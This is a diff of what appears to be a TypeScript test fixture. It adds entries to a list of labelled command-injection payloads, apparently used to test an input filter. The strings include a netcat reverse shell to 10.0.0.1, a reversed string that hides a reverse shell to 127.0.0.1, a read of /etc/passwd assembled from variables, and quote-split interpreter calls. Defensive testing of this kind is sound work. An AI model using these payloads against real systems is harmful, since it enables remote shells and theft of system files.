@@ -60,6 +60,9 @@ const attacks: [string, string][] = [
   ["variables assembling a command", "c1=c;c2=a;c3=t;$c1$c2$c3 /etc/passwd"],
   ["sqlite dot command", ";\n.shell nc 10.0.0.1 6666 -e sh"],
   ["glued Windows switch", "view=image.jpg&bcdboot/r file.txt"],
+  ["here-string into an interpreter after a separator", ";irb<<<1+2"],
+  ["quote-split interpreter with a version", '""p""y""t""h""o""n""3"".""1""0"" ""c""m""d""'],
+  ["quoted letters glued to a command", "'i'p a"],
   ["padding then substitution", "A".repeat(5000) + ";$(printf 'hsab/nib/ e- 4321 1.0.0.721 cn'|rev)"],
 ];
 
